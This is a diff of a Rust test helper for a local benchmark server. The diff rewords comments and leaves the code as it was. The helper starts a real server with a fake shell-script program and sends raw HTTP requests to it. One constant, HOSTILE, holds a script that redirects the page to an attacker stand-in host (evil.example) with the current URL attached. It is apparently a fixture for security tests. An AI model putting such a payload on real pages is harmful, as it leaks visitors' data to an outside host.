@@ -1,4 +1,4 @@
-//! A server for a test: real, on a port of its own, with a script in the program's place.
+//! A real server for a test, on a separate port, with a script in place of the program.
 #![allow(dead_code, reason = "each test binary uses a part of it")]
 
 use std::ffi::OsString;
@@ -13,15 +13,16 @@ use cryptbench_serve::{
     Catalogue, Choice, Format, Invalid, Offered, Profile, Server, Site, System,
 };
 
-/// Longest time that anything is waited for; nothing is asserted about how long it takes.
+/// Maximum time to wait for anything. The tests do not check how long it takes.
 pub const PATIENCE: Duration = Duration::from_secs(60);
 
-/// What is in the event of a run's end.
+/// Text in the event that reports the end of a run.
 pub const ENDED: &str = "\"event\":\"ended\"";
 
-/// Tells as a run does, until the file `end` is there or SIGINT comes. What it was called with goes to `arguments`, the
-/// order of what it did to `done`. With `die` it is killed; with `heir` it ends and leaves a process behind that holds
-/// its standard error and speaks once `tell` is there; with `slow` a comparison takes as long as that file is there.
+/// Reports events like a run, until the file `end` exists or SIGINT arrives. Writes its arguments to `arguments`,
+/// and its actions in order to `done`. Files change its behaviour. With `die`, it is killed. With `heir`, it exits
+/// and leaves a process behind that keeps its standard error open and writes to it once `tell` exists. With `slow`,
+/// a comparison takes until that file is removed.
 const PROGRAM: &str = r#"#!/bin/sh
 cd "${0%/*}" || exit
 case "$1 $2 $3" in
@@ -64,7 +65,7 @@ case "$1 $2 $3" in
 esac
 "#;
 
-/// The page that lies beside the record of the run `one`.
+/// The page next to the record of the run `one`.
 pub const HOSTILE: &str = "<script>location = 'http://evil.example/?' + location.href</script>";
 
 pub struct Place {
@@ -98,7 +99,7 @@ fn catalogue() -> Catalogue {
     }
 }
 
-/// The options of the program, and whether they take a value.
+/// The options of the program, and whether they have a value.
 const OPTIONS: [(&str, bool); 10] = [
     ("profile", true),
     ("study", true),
@@ -112,7 +113,7 @@ const OPTIONS: [(&str, bool); 10] = [
     ("size", true),
 ];
 
-/// As the program's parser does, as far as it matters here.
+/// Behaves like the program's parser, as far as these tests need it.
 fn plan(words: &[OsString]) -> Result<serde_json::Value, Invalid> {
     let words: Vec<&str> = words.iter().filter_map(|word| word.to_str()).collect();
     let refuses = |word: &str| {
@@ -139,7 +140,7 @@ impl Place {
         fs::write(&program, PROGRAM).unwrap();
         fs::set_permissions(&program, fs::Permissions::from_mode(0o755)).unwrap();
         let server = loop {
-            // Any free port: the first that is tried is another test's, perhaps.
+            // Any free port, because another test may use the port that is tried first.
             let port = 20_000 + (std::process::id() as u16 ^ rand()) % 20_000;
             if let Ok(server) = Server::bind(Some(port)) {
                 break server;
@@ -171,10 +172,10 @@ impl Place {
         format!("127.0.0.1:{}", self.port)
     }
 
-    /// The whole answer to raw bytes, until the server closes the connection.
+    /// Sends raw bytes and returns the whole answer, until the server closes the connection.
     pub fn raw(&self, bytes: &[u8]) -> String {
         let mut stream = self.connect();
-        // The server may have answered and closed before all was sent.
+        // The server may have answered and closed the connection before everything was sent.
         let _ = stream.write_all(bytes);
         let mut answer = Vec::new();
         let _ = stream.read_to_end(&mut answer);
@@ -207,7 +208,7 @@ impl Place {
         (status(&answer), answer)
     }
 
-    /// The path to which the report of the run `one` is opened, and the answer that says so.
+    /// The path to which opening the report of the run `one` redirects, and the answer with the redirect.
     pub fn report(&self) -> (String, String) {
         let (status, answer) = self.get("/runs/one/report.html");
         assert_eq!(status, 303, "{answer}");
@@ -223,34 +224,34 @@ impl Place {
         self.dir.path().join("target")
     }
 
-    /// An order that is fine, with this target.
+    /// A valid order with this target.
     pub fn order(&self, target: &std::path::Path) -> String {
         serde_json::json!({ "target": target, "options": { "profile": ["quick"] } }).to_string()
     }
 
-    /// Starts a run, which is accepted.
+    /// Starts a run, which must be accepted.
     pub fn start(&self) {
         let (status, answer) = self.post("/api/run", &self.order(&self.target()));
         assert_eq!(status, 202, "{answer}");
     }
 
-    /// Leaves a file beside the program, which does then as [`PROGRAM`] says.
+    /// Creates a file next to the program, which changes the program's behaviour ([`PROGRAM`]).
     pub fn tell(&self, name: &str) {
         fs::write(self.dir.path().join(name), "").unwrap();
     }
 
-    /// The events until the run's end.
+    /// The events up to the end of the run.
     pub fn events_until_ended(&self) -> String {
         self.events_until(ENDED, None)
     }
 
-    /// Waits until the file `name` beside the program holds `words`.
+    /// Waits until the file `name` next to the program contains `words`.
     pub fn wait_for(&self, name: &str, words: &str) -> String {
         let path = self.dir.path().join(name);
         wait(|| fs::read_to_string(&path).ok().filter(|text| text.contains(words)))
     }
 
-    /// The events so far, of a connection of its own: read until `words` came.
+    /// The events so far, read on a separate connection until `words` arrives.
     pub fn events_until(&self, words: &str, last: Option<u64>) -> String {
         let mut stream = self.connect();
         let last = last.map(|id| format!("Last-Event-ID: {id}\r\n")).unwrap_or_default();
@@ -272,7 +273,7 @@ impl Place {
     }
 }
 
-/// Numbers that differ from test to test; nothing depends on which.
+/// Numbers that differ between tests; nothing depends on their values.
 fn rand() -> u16 {
     use std::hash::{BuildHasher as _, Hasher as _};
     std::collections::hash_map::RandomState::new().build_hasher().finish() as u16
@@ -282,7 +283,7 @@ pub fn status(answer: &str) -> u16 {
     answer.split(' ').nth(1).and_then(|s| s.parse().ok()).unwrap_or(0)
 }
 
-/// What `found` gives once it gives something.
+/// Waits until `found` returns a value, and returns it.
 pub fn wait<T>(found: impl Fn() -> Option<T>) -> T {
     let begun = Instant::now();
     loop {
